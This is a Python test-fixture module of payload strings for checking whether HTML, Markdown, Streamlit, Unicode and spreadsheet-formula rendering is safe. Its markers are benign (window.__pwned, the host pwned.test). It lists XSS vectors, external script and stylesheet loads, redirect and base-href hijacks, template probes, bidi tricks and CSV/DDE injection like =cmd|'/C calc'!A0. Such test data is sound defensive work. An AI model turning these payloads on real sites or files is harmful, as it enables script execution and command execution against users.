"""Texts that do harm where text is taken for HTML, Markdown, LaTeX, an icon, or a formula.

What would run sets `window.__pwned`; what would be drawn has the class "pwned"; what would be
fetched or followed leads to pwned.test.
"""

HTML = (
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//pwned.test/x.js></SCRIPT>",
    "</script><script>window.__pwned=1</script>",
    "<img class=pwned src=x onerror=window.__pwned=1>",
    "<img/class=pwned/src=x/onerror=window.__pwned=1>",
    "<svg class=pwned onload=window.__pwned=1>",
    "<svg class=pwned><script>window.__pwned=1</script></svg>",
    "<math class=pwned><mtext></mtext></math>",
    "<iframe class=pwned srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe class=pwned src='javascript:parent.__pwned=1'></iframe>",
    "<object class=pwned data='//pwned.test/x'></object>",
    "<embed class=pwned src='//pwned.test/x'>",
    "<video class=pwned><source onerror=window.__pwned=1></video>",
    "<details class=pwned open ontoggle=window.__pwned=1>x</details>",
    "<input class=pwned autofocus onfocus=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<a class=pwned href='javascript:window.__pwned=1'>click</a>",
    "<form class=pwned action=//pwned.test><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//pwned.test'>",
    "<base href=//pwned.test/>",
    "<link rel=stylesheet class=pwned href=//pwned.test/x.css>",
    "<template class=pwned><b>x</b></template>",
    "</p></div></div><h1 class=pwned>out</h1>",
    "<b class=pwned>bold</b> & <i class=pwned>italic</i>",
    "<!-- comment --> <![CDATA[ data ]]> <?php echo 1 ?>",
    "&lt;img class=pwned src=x onerror=window.__pwned=1&gt;",
    "&#60;img class=pwned src=x&#62; &amp;lt; &nbsp;&copy;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
)
ATTRIBUTES = (
    '" onmouseover="window.__pwned=1" class="pwned',
    "' onfocus='window.__pwned=1' autofocus class='pwned",
    "`onclick=window.__pwned=1`",
    "]]>'\"><x class=pwned>",
    "javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<p class=pwned style='background:url(//pwned.test/x)'>x</p>",
    "@import url(//pwned.test/x.css); body { display: none }",
    "expression(window.__pwned=1)",
)
MARKDOWN = (
    "[link](https://pwned.test)",
    "[link](javascript:window.__pwned=1)",
    "[ref][1] and [1]: https://pwned.test",
    "![image](https://pwned.test/x.png)",
    "<https://pwned.test> https://pwned.test www.pwned.test me@pwned.test",
    "**bold** __bold__ *italic* _italic_ ~~gone~~ `code` ```block```",
    "# heading",
    "> quote",
    "- item",
    "+ item",
    "1. first",
    "1) first",
    "1987. A year",
    "a\n===\nb\n---\nc",
    "    code",
    "a\n\n    code",
    "- [x] task",
    "--- *** ___ a -> b <- c -- d",
    "| a | b |",
    "footnote[^1] [^1]: text",
    "trailing backslash \\",
    "\\*escaped\\* \\<b\\>",
    "$x^2$ and $$\\frac{1}{2}$$ and \\(y\\)",
)
STREAMLIT = (
    ":red[coloured] :blue-background[x] :rainbow[y] :small[z]",
    ":red-badge[badge] :green-badge[:material/check:]",
    ":material/home: :smile: :streamlit:",
    ":color[x]{foreground=red} :shimmer[x]",
    "{{ 7 * 7 }} {% raw %} ${window.__pwned=1} #{x} %(name)s {0}",
)
LETTERS = (
    "\u202egnippilf txet\u202c after",
    "\u2066isolated\u2069 \u2067right\u2069 \u200fmark\u200e",
    "zero\u200bwidth \u00adsoft \ufeffmark",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 <b class=pwned>x</b>",
    "\U0001f3ed\U0001f469\u200d\U0001f527 e\u0301\u0323",
    "a\u2028b\u2029c",
    "W" * 3_000,
    "<" * 500,
)
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("//pwned.test","click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " =1+1",
    '";=1+1;"',
    "a\"b,c'd;=1+1",
    "a\n=1+1",
)
PAYLOADS = (*HTML, *ATTRIBUTES, *STYLES, *MARKDOWN, *STREAMLIT, *LETTERS, *FORMULAS)
